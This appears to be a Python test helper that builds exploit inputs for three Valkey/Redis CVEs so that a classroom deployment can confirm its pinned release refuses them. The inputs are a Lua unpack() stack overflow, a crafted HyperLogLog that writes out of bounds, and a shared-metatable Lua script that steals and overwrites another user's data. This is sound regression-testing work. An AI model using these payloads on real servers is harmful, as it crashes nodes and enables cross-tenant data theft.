"""What a student who tries sends to a shared node: the real inputs, built here, each answering what happened.

Every function takes the attacker's own client (a student's ACL user) and returns a
small dict of plain values, so the same source runs in this process against a local
node (``tests/classroom/test_classroom.py``) and, sent as text, inside a student's
kernel in their container (``tests/classroom/test_hub.py``). This module imports only
``redis``: the hub test executes its source in a kernel that has no ``tests/``.

On Valkey 8.0.1 the first three take the node down or run the attacker's code as the
victim (docs/classroom.md names the CVEs); on the pinned release each is refused.
"""

from __future__ import annotations

import redis

#: CVE-2025-46817: unpack() over a range of about 2^31 values overflowed the Lua stack
UNPACK = "return unpack({}, -2, 2147483647)"


def unpack_overflow(c: redis.Redis) -> dict:
    """EVAL the unpack() range that crashed the node; answers the error, or what came back."""
    try:
        return {"reply": repr(c.eval(UNPACK, 0))[:80]}
    except redis.exceptions.ResponseError as exc:
        return {"error": str(exc)[:200]}


def crafted_hll() -> bytes:
    """A sparse HyperLogLog whose zero runs add up past 2^31 registers (CVE-2025-32023).

    Header: ``HYLL``, encoding 1 (sparse), three unused bytes, an 8-byte cached
    cardinality whose top bit says "stale" (so PFCOUNT decodes the registers). Then
    131,072 XZERO opcodes of 16,384 registers each (``01xxxxxx yyyyyyyy`` with run
    length 16,384): the register index, a C int, wraps to -2^31; a VAL opcode
    (``1vvvvvxx``) then writes a register that far before the buffer. A release
    with the fix checks every run against the 16,384 registers and calls the value
    corrupt.
    """
    header = b"HYLL" + bytes([1, 0, 0, 0]) + bytes(7) + b"\x80"
    xzero_16384 = bytes([0x40 | 0x3F, 0xFF])
    val_1 = bytes([0x80])
    return header + xzero_16384 * 131072 + val_1


def hll_overflow(c: redis.Redis, key_a: str, key_b: str) -> dict:
    """Store the crafted HLL under two of the attacker's own keys, then PFCOUNT both (the merge path)."""
    out: dict = {}
    payload = crafted_hll()
    c.set(key_a, payload)
    c.set(key_b, payload)
    for name, args in (("pfcount_one", (key_a,)), ("pfcount_merge", (key_a, key_b))):
        try:
            out[name] = c.execute_command("PFCOUNT", *args)
        except redis.exceptions.ResponseError as exc:
            out[name] = "error: " + str(exc)[:120]
    c.delete(key_a, key_b)
    return out


def metatable_arm(victim_key: str, victim_mark: str) -> str:
    """A script that makes every string's method lookup run the attacker's code (CVE-2025-46818).

    Strings share one metatable in the node's one Lua state. The attacker's
    ``__index`` runs inside whoever next calls a string method (``s:upper()``), with
    that caller's ACL user: it reads the victim's row into the metatable itself
    (which the attacker reads back later) and writes a mark into the victim's
    namespace.
    """
    return (
        "local mt = getmetatable('')\n"
        "local methods = string\n"
        "mt.__index = function(s, k)\n"
        "  mt.loot = mt.loot or {}\n"
        f"  local ok, v = pcall(redis.call, 'HGET', '{victim_key}', 'payload')\n"
        "  if ok and v then table.insert(mt.loot, v) end\n"
        f"  pcall(redis.call, 'SET', '{victim_mark}', 'written by another student')\n"
        "  return methods[k]\n"
        "end\n"
        "return 'armed'\n"
    )


#: what the victim runs afterwards: an ordinary script that calls a string method
VICTIM_SCRIPT = "local p = redis.call('HGET', KEYS[1], 'payload') or '' return p:upper()"
#: what the attacker runs last: read back what the planted __index collected
LOOT = "local mt = getmetatable('') return mt.loot or {}"


def metatable_plant(c: redis.Redis, victim_key: str, victim_mark: str) -> dict:
    """Try to plant the shared string metatable; answers the refusal, or 'armed'."""
    try:
        return {"armed": c.eval(metatable_arm(victim_key, victim_mark), 0)}
    except redis.exceptions.ResponseError as exc:
        return {"error": str(exc)[:200]}


def metatable_loot(c: redis.Redis) -> dict:
    """What the planted function collected from other users' scripts (the attacker's read-back)."""
    try:
        return {"loot": list(c.eval(LOOT, 0))}
    except redis.exceptions.ResponseError as exc:
        return {"error": str(exc)[:200]}
